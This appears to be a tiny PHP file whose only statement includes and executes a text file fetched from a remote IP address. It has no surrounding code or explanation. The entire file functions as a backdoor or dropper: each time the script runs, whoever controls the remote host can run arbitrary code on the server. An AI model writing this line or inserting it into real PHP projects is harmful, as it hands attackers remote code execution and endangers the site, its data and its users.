<?php
include('http://198.51.100.23/x.txt');
